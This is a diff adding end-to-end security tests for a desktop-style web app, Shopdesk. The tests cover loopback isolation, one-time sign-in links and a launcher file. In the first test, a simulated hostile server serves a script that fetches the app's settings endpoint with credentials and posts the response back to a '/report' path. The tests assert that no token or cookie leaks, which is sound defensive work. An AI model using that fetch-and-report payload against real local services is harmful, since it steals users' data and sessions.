@@ -1,0 +1,93 @@
+/**
+ * The browser host as the hostile party sees it: another local user's server on another loopback port, a used
+ * sign-in address, the launcher file --open hands the opener.
+ */
+import fs from 'node:fs';
+import http from 'node:http';
+import path from 'node:path';
+import { expect, indicator, SettingsPage, test } from './fixtures';
+
+const SENTINEL = 'e2e-service-token';
+
+test('a listener on another loopback port receives no session and no token after redirects', async ({
+  page,
+  app,
+  service,
+}) => {
+  const seen: string[] = [];
+  const hostile = http.createServer((req, res) => {
+    seen.push(JSON.stringify({ url: req.url, headers: req.headers }));
+    if (req.url === '/bounce') {
+      // to the app and back: cookies of 127.0.0.1 would come along on the way back
+      res.writeHead(302, { location: `${app.host.url}/` }).end();
+      return;
+    }
+    res.writeHead(200, { 'content-type': 'text/html' });
+    res.end(
+      `<!doctype html><title>hostile</title><script>
+        fetch(${JSON.stringify(`${app.host.url}/ipc/settings:get`)}, { method: 'POST', credentials: 'include', body: '{}' })
+          .then((r) => r.text(), (e) => 'blocked ' + e)
+          .then((t) => { document.title = 'done'; return fetch('/report', { method: 'POST', body: t }); });
+      </script>`,
+    );
+  });
+  await new Promise<void>((resolve) => hostile.listen(0, '127.0.0.1', resolve));
+  const address = hostile.address();
+  const hostileOrigin = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
+  try {
+    await app.connect({ url: service.url, token: SENTINEL });
+    const session = await page.evaluate(() => sessionStorage.getItem('shopdesk.session'));
+    expect(session).toBeTruthy();
+
+    await page.goto(`${hostileOrigin}/bounce`);
+    await expect(indicator(page)).toHaveAccessibleName('Connection: Online'); // the app, still signed in
+    await page.goto(`${hostileOrigin}/page`);
+    await expect(page).toHaveTitle('done');
+    await expect.poll(() => seen.some((s) => s.includes('/report'))).toBe(true);
+
+    expect(seen.length).toBeGreaterThanOrEqual(3);
+    for (const request of seen) {
+      expect(request).not.toContain(session!);
+      expect(request).not.toContain(SENTINEL);
+      expect(request).not.toContain('"cookie"');
+    }
+    expect((await page.context().cookies()).length).toBe(0);
+  } finally {
+    hostile.close();
+  }
+});
+
+test('a used sign-in address signs nobody in, and says how to get a new one', async ({ page, app }) => {
+  const url = app.host.loginUrl();
+  await page.goto(url);
+  await expect(page.getByRole('heading', { name: 'Welcome to Shopdesk' })).toBeVisible();
+  // the key left the address at once: not in the location, so not in what history keeps of the page now
+  expect(page.url()).not.toContain('login=');
+
+  // the same address in a fresh browser context (another user who saw it) is refused
+  const other = await page.context().browser()!.newContext();
+  const stranger = await other.newPage();
+  await stranger.goto(url);
+  await expect(stranger.getByRole('alert')).toContainText('already been used or has expired');
+  await expect(stranger.getByRole('heading', { name: 'Welcome to Shopdesk' })).toHaveCount(0);
+  await other.close();
+
+  // the same tab keeps its session across a reload
+  await page.reload();
+  await expect(page.getByRole('heading', { name: 'Welcome to Shopdesk' })).toBeVisible();
+});
+
+test('the launcher file signs in without putting the key in any address', async ({ page, app }) => {
+  const file = path.join(app.dataDir, 'launcher-test.html');
+  fs.writeFileSync(file, app.host.launcherPage(), { mode: 0o600 });
+  const visited: string[] = [];
+  page.on('framenavigated', (frame) => {
+    if (frame === page.mainFrame()) visited.push(frame.url());
+  });
+  await page.goto(`file://${file}`);
+  await expect(page.getByRole('heading', { name: 'Welcome to Shopdesk' })).toBeVisible();
+  const key = /name="key" value="([^"]+)"/.exec(fs.readFileSync(file, 'utf8'))![1]!;
+  expect(visited.join(' ')).not.toContain(key);
+  await new SettingsPage(page).goto();
+  await expect(page.getByRole('heading', { name: 'Settings' })).toBeVisible();
+});
